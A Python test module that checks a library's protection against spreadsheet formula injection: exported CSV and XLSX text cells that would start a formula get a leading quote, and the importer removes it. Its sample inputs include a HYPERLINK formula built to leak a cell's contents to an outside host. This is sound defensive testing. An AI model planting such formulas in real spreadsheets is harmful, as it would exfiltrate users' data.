"""qa_core.io.cells: no text cell the project writes (CSV or XLSX) starts a formula, and the
importer takes the quote back off (issue 11, finding 4)."""

from __future__ import annotations

import csv
import io
import sys
import zipfile

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from qa_core.io.cells import csv_bytes, neutralise, neutralise_array, neutralise_frame, restore, restore_array
from qa_core.io.importer.formats import read_sheet, to_csv_bytes, to_xlsx_bytes

FORMULAS = [
    '=HYPERLINK("http://x?leak="&B2,"a")',
    "+1+1",
    "-x",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=1",
    " =1",
    "\t",
    "\u00a0-cmd",
    "-2+3",
    "+44 1632 960000",
    "=-5",
]
QUOTED = ["'=already", "''=twice", "' =1", "'\t", "'-x"]
PLAIN = [
    "Leah Carrow",
    "Team (East)",
    "'quoted",
    "'",
    "x=1",
    "a-b",
    "",
    "-5",
    "+1.5",
    "-2.5%",
    "-1,234",
    "-",
    "+",
    " -3 ",
    "1e-5",
    "-1e5",
]
OPENS_A_FORMULA = tuple("=+-@\t\r")


@pytest.mark.parametrize("text", FORMULAS + QUOTED)
def test_a_formula_gets_a_quote_in_front_and_comes_back(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_and_whole_numbers_are_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


def _opens_a_formula(cell: str) -> bool:
    """What a spreadsheet does with a cell, written independently of qa_core.io.cells: a formula
    when it starts with = + - @ (after spaces) or a tab or carriage return, unless it is a number
    or a lone sign."""
    if not (cell.lstrip()[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r")):
        return False
    if cell.strip() in ("+", "-"):
        return False
    try:
        float(cell.strip().rstrip("%").replace(",", ""))
    except ValueError:
        return True
    return cell.strip().lstrip("+-")[:1] not in tuple("0123456789.")  # -inf, -nan: words, not numbers


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r \u00a0\n5.%ax,eE")), max_size=8) | st.text(max_size=12))
def test_neutralise_is_undone_by_restore_and_never_leaves_a_formula(text):
    written = neutralise(text)
    assert restore(written) == text
    assert not _opens_a_formula(written), repr(written)


@given(st.lists(st.none() | st.text(max_size=6) | st.sampled_from(FORMULAS + QUOTED + PLAIN), max_size=30))
def test_the_arrow_versions_do_cell_by_cell_what_the_text_versions_do(cells):
    array = pa.array(cells, type=pa.string())
    written = neutralise_array(array).to_pylist()
    assert written == [None if c is None else neutralise(c) for c in cells]
    assert restore_array(pa.array(written, type=pa.string())).to_pylist() == cells


def test_the_arrow_first_look_knows_every_space_python_knows():
    """The Arrow pre-filter (RE2) must find every cell the Python rule would quote."""
    spaces = [chr(c) for c in range(sys.maxunicode + 1) if chr(c).isspace()]
    cells = [s + "=1" for s in spaces]
    assert neutralise_array(pa.array(cells)).to_pylist() == ["'" + c for c in cells]


def test_a_frame_keeps_its_numbers_and_quotes_its_text():
    frame = pd.DataFrame(
        {
            "=name": ["=1+1", "ok", None],
            "n": [-5, 3, 4],
            "x": [-0.5, 1.0, float("nan")],
            "cat": pd.Categorical(["-x", "ok", "-x"]),
        }
    )
    out = neutralise_frame(frame)
    assert list(out.columns) == ["'=name", "n", "x", "cat"]
    assert out["'=name"].tolist()[:2] == ["'=1+1", "ok"] and out["'=name"].isna().tolist()[2]
    assert out["n"].tolist() == [-5, 3, 4] and out["x"].tolist()[:2] == [-0.5, 1.0]
    assert out["cat"].tolist() == ["'-x", "ok", "'-x"]
    assert frame["=name"][0] == "=1+1"  # the input is not changed
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
    assert rows[:3] == [["'=name", "n", "x", "cat"], ["'=1+1", "-5", "-0.5", "'-x"], ["ok", "3", "1.0", "ok"]]


# -- the importer's writers and reader --------------------------------------------------------
FRAME = pd.DataFrame({"text": FORMULAS + QUOTED + PLAIN[:6], "number": range(-3, len(FORMULAS + QUOTED) + 3)})


def _cells(frame: pd.DataFrame) -> list[list[str]]:
    return [[str(c) for c in frame.columns]] + frame.astype(str).values.tolist()


def test_csv_export_quotes_formulas_keeps_numbers_and_reads_back():
    data = to_csv_bytes(FRAME.assign(**{"-col": "x"}))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["text", "number", "'-col"]
    assert [r[0] for r in rows[1:]] == [neutralise(t) for t in FRAME["text"]]
    assert rows[1][1] == "-3"  # a negative number stays a number
    assert not [r for r in rows[1:] if r[0].lstrip().startswith(OPENS_A_FORMULA) or r[0][:1] in "\t\r"]
    sheet = read_sheet(data, "x.csv", "x")
    assert sheet.headers == ["text", "number", "-col"]


def test_xlsx_export_writes_quoted_strings_never_formulas():
    data = to_xlsx_bytes([("x", FRAME)])
    book = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: formulas would show as formulas
    sheet = book["x"]
    texts = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in texts)
    # (XLSX is XML, where a carriage return reads back as a line feed.)
    assert [c.value for c in texts][: len(FORMULAS)] == ["'" + t.replace("\r", "\n") for t in FORMULAS]
    numbers = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert numbers[0].value == -3 and numbers[0].data_type == "n"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")  # no formula anywhere in the sheet
